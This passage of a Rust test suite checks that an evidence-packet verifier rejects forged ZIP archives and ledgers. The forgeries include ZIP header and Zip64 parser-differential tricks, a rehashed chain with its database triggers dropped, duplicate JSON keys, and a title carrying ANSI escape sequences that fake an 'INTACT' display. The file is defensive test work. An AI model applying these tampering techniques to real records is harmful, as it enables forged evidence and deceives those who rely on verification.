        central.extend_from_slice(&(e.mode << 16).to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name);
        central.extend_from_slice(&ce);
        central.extend_from_slice(&e.comment);
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// Found by the adversarial review of format 2: ZIP header fields the chain does not account
/// for, each of which verified as intact before every header field was held to the writer's.
#[test]
fn header_fields_a_packet_never_has_are_caught() {
    let d = Dir::new();
    let p = genuine(&d);
    let base = stored_entries(&p);
    // The writer's layout reproduced: the same packet verifies (so each tweak below is the
    // only difference).
    let same = d.file("same.zip", &write_stored(&base));
    d.ok(&["verify", same.to_str().unwrap()]);
    let at = |name: &str| {
        base.iter()
            .position(|e| e.name.starts_with(name.as_bytes()))
            .unwrap()
    };
    let (e1, e2, html) = (
        at("evidence/E001-"),
        at("evidence/E002-"),
        at("report.html"),
    );
    let unicode_path = |shown: &[u8], real: &[u8]| {
        let mut c = flate2::Crc::new();
        c.update(shown);
        let mut data = vec![1u8];
        data.extend_from_slice(&c.sum().to_le_bytes());
        data.extend_from_slice(real);
        (0x7075u16, data)
    };
    type Tweak = Box<dyn Fn(&mut Vec<Stored>)>;
    let cases: Vec<(&str, Tweak, &str)> = vec![
        (
            "two evidence files swapped by Unicode-path extra fields",
            Box::new(move |v: &mut Vec<Stored>| {
                let (n1, n2) = (v[e1].name.clone(), v[e2].name.clone());
                v[e1].central_name = Some(n2.clone());
                v[e1].central_extra = vec![unicode_path(&n2, &n1)];
                v[e2].central_name = Some(n1.clone());
                v[e2].central_extra = vec![unicode_path(&n1, &n2)];
            }),
            "an extra field renames it",
        ),
        (
            "a second report hidden after the deflate stream",
            Box::new(move |v: &mut Vec<Stored>| {
                let n = v[html].data.len() as u32;
                v[html].data.extend_from_slice(b"PK\x03\x04 FORGED REPORT");
                v[html].local_size = Some(n);
            }),
            "the zip was doctored",
        ),
        (
            "Zip64 sizes in the local header that differ from the central ones",
            Box::new(move |v: &mut Vec<Stored>| {
                let (size, csize) = (u64::from(v[html].size), v[html].data.len() as u64);
                let mut z = (size - 100).to_le_bytes().to_vec();
                z.extend_from_slice(&(csize - 100).to_le_bytes());
                v[html].local_extra = vec![(0x0001, z)];
                v[html].local_size = Some(u32::MAX);
                v[html].local_usize = Some(u32::MAX);
            }),
            "other sizes",
        ),
        (
            "a file comment",
            Box::new(move |v: &mut Vec<Stored>| v[html].comment = b"certified".to_vec()),
            "comment",
        ),
        (
            "an extra field in the local header",
            Box::new(move |v: &mut Vec<Stored>| {
                v[html].local_extra = vec![(0xcafe, b"note".to_vec())]
            }),
            "extra field",
        ),
        (
            "another entry time",
            Box::new(move |v: &mut Vec<Stored>| v[html].time = (0, 0x5021)),
            "entry time",
        ),
        (
            "another file mode",
            Box::new(move |v: &mut Vec<Stored>| v[html].mode = 0o100755),
            "attributes",
        ),
    ];
    for (what, tweak, expect) in cases {
        let mut v = base.clone();
        tweak(&mut v);
        let path = d.file("tweaked.zip", &write_stored(&v));
        let out = d.output(&["verify", path.to_str().unwrap()]);
        let text = String::from_utf8_lossy(&out.stdout).to_lowercase();
        assert_ne!(out.status.code(), Some(0), "{what}: {text}");
        assert!(
            text.contains(expect),
            "{what}: expected {expect:?} in {text}"
        );
        Dir::new().fails(2, &["import", path.to_str().unwrap()]);
    }
}

/// Found by the second adversarial review: a Zip64 end record whose counts point at part of
/// the directory (or at one hidden in an evidence file), which the `zip` crate ignores and
/// Python's zipfile follows — two readers, two packets.
#[test]
fn a_zip64_end_record_must_describe_the_real_directory() {
    let d = Dir::new();
    let p = genuine(&d);
    let bytes = std::fs::read(&p).unwrap();
    let eocd = bytes.len() - 22;
    let dword = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap());
    let count = u16::from_le_bytes([bytes[eocd + 10], bytes[eocd + 11]]) as u64;
    let (cd_size, cd_start) = (dword(eocd + 12) as u64, dword(eocd + 16) as u64);
    for (what, n, size, start) in [
        ("the real directory", count, cd_size, cd_start),
        (
            "its last entries only",
            count - 4,
            cd_size - 200,
            cd_start + 200,
        ),
    ] {
        let mut out = bytes[..eocd].to_vec();
        let record_at = out.len() as u64;
        out.extend_from_slice(b"PK\x06\x06");
        out.extend_from_slice(&44u64.to_le_bytes());
        out.extend_from_slice(&(0x0300u16 | 45).to_le_bytes());
        out.extend_from_slice(&45u16.to_le_bytes());
        out.extend_from_slice(&[0; 8]);
        for v in [n, n, size, start] {
            out.extend_from_slice(&v.to_le_bytes());
        }
        out.extend_from_slice(b"PK\x06\x07");
        out.extend_from_slice(&0u32.to_le_bytes());
        out.extend_from_slice(&record_at.to_le_bytes());
        out.extend_from_slice(&1u32.to_le_bytes());
        out.extend_from_slice(&bytes[eocd..]);
        let path = d.file("zip64.zip", &out);
        let result = d.output(&["verify", path.to_str().unwrap()]);
        let text = String::from_utf8_lossy(&result.stdout);
        if n == count {
            // Describing the real directory is what a Zip64 writer does: accepted.
            assert_eq!(result.status.code(), Some(0), "{what}: {text}");
        } else {
            assert_eq!(result.status.code(), Some(1), "{what}: {text}");
            assert!(
                text.contains("end records do not describe its directory"),
                "{what}: {text}"
            );
        }
    }
}

/// Found by the second adversarial review: a private value in plain text in an entry of
/// encoding 2 (chain rehashed, its disclosure dropped) verified in a "redacted" packet.
#[test]
fn a_plain_private_value_in_encoding_2_is_refused() {
    let d = Dir::new();
    let (_, red) = with_contact_details(&d);
    let mut f = Forger::open(&red);
    let mut lines = f.ledger();
    let mut changed = false;
    for l in &mut lines {
        let p = l["payload"].as_str().unwrap().to_owned();
        let mut v: serde_json::Value = serde_json::from_str(&p).unwrap();
        if let Some(phone) = v.pointer_mut("/changes/claimant/to/phone")
            && phone.get("commitment").is_some()
        {
            *phone = "010-1234-5678".into();
            l["payload"] = v.to_string().into();
            changed = true;
        }
    }
    assert!(changed);
    f.set_ledger(&lines, true);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "plain.zip", &f));
    assert_eq!(json["ledger"]["intact"], false, "{text}");
    assert!(text.contains("in plain text"), "{text}");
}

/// Found by the adversarial review: a second `evidence.added` under an existing number,
/// appended to a genuine chain and the packet rebuilt by recourse itself, verified as intact
/// while the report silently showed only the second file as E001.
#[test]
fn a_record_added_twice_is_not_a_silent_replacement() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let mut lines = f.ledger();
    let mut again = lines
        .iter()
        .find(|l| l["kind"] == "evidence.added")
        .unwrap()
        .clone();
    again["seq"] = (lines.len() + 1).into();
    let mut payload: serde_json::Value =
        serde_json::from_str(again["payload"].as_str().unwrap()).unwrap();
    payload["evidence"]["note"] = "replaced".into();
    again["payload"] = payload.to_string().into();
    lines.push(again);
    f.set_ledger(&lines, true);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "twice.zip", &f));
    assert_eq!(json["ledger"]["intact"], false, "{text}");
    assert!(
        text.contains("ledger entry 9 (evidence.added) cannot be replayed: it adds a record twice"),
        "{text}"
    );
}

/// Found by the adversarial review: a chain whose case title holds ESC sequences (written by
/// hand, then built by recourse) imported and printed them raw.
#[test]
fn import_refuses_control_characters_from_a_chain() {
    let d = Dir::new();
    genuine(&d);
    // Rewrite the title in the data directory's chain, as a forger with the database would:
    // the triggers refuse UPDATE, so the ledger is copied through a fresh table.
    let db = d.sqlite();
    db.execute_batch("DROP TRIGGER ledger_refuses_update; DROP TRIGGER ledger_refuses_delete;")
        .unwrap();
    let (uid, payload, encoding): (String, String, u8) = db
        .query_row(
            "SELECT c.uid, l.payload, l.encoding FROM ledger l JOIN cases c ON c.id = l.case_id WHERE l.seq = 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap();
    let forged_payload = payload.replace(
        "공기청정기 환불 거부",
        "환불 \\u001b[2J\\u001b[31mINTACT\\u0007",
    );
    assert_ne!(forged_payload, payload);
    let mut stmt = db
        .prepare(
            "SELECT seq, at, kind, payload, encoding FROM ledger WHERE case_id = 1 ORDER BY seq",
        )
        .unwrap();
    let rows: Vec<(u64, String, String, String, u8)> = stmt
        .query_map([], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let mut prev = recourse::ledger::GENESIS;
    for (seq, at, kind, p, enc) in rows {
        let p = if seq == 1 { forged_payload.clone() } else { p };
        let h = entry_hash_with(
            if seq == 1 { encoding } else { enc },
            &prev,
            &uid,
            seq,
            &at,
            &kind,
            &p,
        );
        db.execute(
            "UPDATE ledger SET payload = ?1, prev_hash = ?2, hash = ?3 WHERE case_id = 1 AND seq = ?4",
            rusqlite::params![p, prev, h, seq],
        )
        .unwrap();
        prev = h;
    }
    db.execute(
        "UPDATE cases SET title = ?1",
        [&"환불 \u{1b}[2J\u{1b}[31mINTACT\u{7}"],
    )
    .unwrap();
    drop(stmt);
    drop(db);
    let out = d.path().join("esc.zip");
    d.ok(&["packet", "build", "1", "--out", out.to_str().unwrap()]);
    let text = d.ok(&["verify", out.to_str().unwrap()]);
    assert!(!text.contains('\u{1b}'), "{text}");
    let other = Dir::new();
    let refused = other.fails(2, &["import", out.to_str().unwrap()]);
    assert!(refused.contains("control character"), "{refused}");
    assert!(!refused.contains('\u{1b}'), "{refused}");
}

/// Found by the third adversarial review: payload texts that say two things (a duplicate key:
/// serde takes the last, a person or a first-wins parser the first), a claimant object whose
/// `from` key hid its plain private fields from the commitment walker, and a second
/// `case.created` that replaced the whole case without an edit on record. Each with the chain
/// rehashed and the lists rewritten.
#[test]
fn payloads_that_say_two_things_or_recreate_the_case_are_refused() {
    let d = Dir::new();
    let (_, red) = with_contact_details(&d);
    let rewrite = |edit: &dyn Fn(&mut Vec<serde_json::Value>)| {
        let mut f = Forger::open(&red);
        let mut lines = f.ledger();
        edit(&mut lines);
        f.set_ledger(&lines, true);
        f.relist();
        f
    };
    // A duplicate key in a contact's summary.
    let f = rewrite(&|lines| {
        for l in lines.iter_mut() {
            if l["kind"] == "contact.added" {
                let p = l["payload"].as_str().unwrap().replacen(
                    "\"summary\":",
                    "\"summary\":\"상담원이 전액 환불을 약속함\",\"summary\":",
                    1,
                );
                l["payload"] = p.into();
            }
        }
    });
    let (text, json) = not_intact(&d, &forged(&d, "dupkey.zip", &f));
    assert_eq!(json["ledger"]["intact"], false, "{text}");
    assert!(text.contains("not one canonical JSON object"), "{text}");
    // Plain private values beside a `from` key.
    let f = rewrite(&|lines| {
        let l = &mut lines[0];
        let mut v: serde_json::Value =
            serde_json::from_str(l["payload"].as_str().unwrap()).unwrap();
        v["case"]["claimant"] = serde_json::json!({
            "address": "서울시 비밀구 1", "email": null, "from": null,
            "name": "김소비", "phone": "010-1234-5678"
        });
        l["payload"] = v.to_string().into();
        l.as_object_mut().unwrap().remove("private");
    });
    let (text, json) = not_intact(&d, &forged(&d, "from.zip", &f));
    assert_eq!(json["ledger"]["intact"], false, "{text}");
    assert!(text.contains("in plain text"), "{text}");
    // A second case.created.
    let f = rewrite(&|lines| {
        let mut again = lines[0].clone();
        again["seq"] = (lines.len() + 1).into();
        again["payload"] = again["payload"]
            .as_str()
            .unwrap()
            .replace("공기청정기 환불 거부", "바뀐 제목")
            .into();
        lines.push(again);
    });
    let (text, json) = not_intact(&d, &forged(&d, "recreate.zip", &f));
    assert_eq!(json["ledger"]["intact"], false, "{text}");
}

/// 0.1.0 wrote formats 2 and 3, this build writes format 4 only: a packet relabelled to
/// another format — the lists rewritten, the page of that format swapped in, re-signed by the
/// forger's own key — is a finding, as is one that names the other generator.
#[test]
fn a_format_its_generator_never_writes_is_a_finding() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    f.key = Some([7; 32]);
    let mut m = f.manifest();
    m["format"] = "recourse.packet.v3".into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    let page =
        std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/verify-v3.html")).unwrap();
    f.set("verify.html", page);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "relabelled-v3.zip", &f));
    assert!(
        json["findings"]
            .to_string()
            .contains("which it never writes"),
        "{text}"
    );
    let mut f = Forger::open(&p);
    f.key = Some([7; 32]);
    let mut m = f.manifest();
    m["generator"] = "recourse 0.1.0".into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "relabelled-0.1.zip", &f));
    assert!(
        json["findings"]
            .to_string()
            .contains("which it never writes"),
        "{text}"
    );
}

/// Found by the adversarial review of the projector: a promise appended on a contact the chain
/// never logged verified as intact, and import linked it to whatever row had that id here
/// (another case's call). Now the chain is replayed through the store's projector by verify.
#[test]
fn a_record_pointing_at_a_contact_never_logged_is_not_a_case() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let mut lines = f.ledger();
    let mut promise = lines
        .iter()
        .find(|l| l["kind"] == "promise.added")
        .unwrap()
        .clone();
    promise["seq"] = (lines.len() + 1).into();
    let mut payload: serde_json::Value =
        serde_json::from_str(promise["payload"].as_str().unwrap()).unwrap();
    payload["id"] = 77.into();
    payload["promise"]["contact_id"] = 99.into();
    promise["payload"] = payload.to_string().into();
    lines.push(promise);
    f.set_ledger(&lines, true);
    f.relist();
    let zip = forged(&d, "elsewhere.zip", &f);
    let (text, json) = not_intact(&d, &zip);
    assert_eq!(json["ledger"]["intact"], false, "{text}");
    assert!(
        text.contains("it points at contact 99, which the chain never logged"),
        "{text}"
    );
    let out = d.output(&["import", zip.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
}
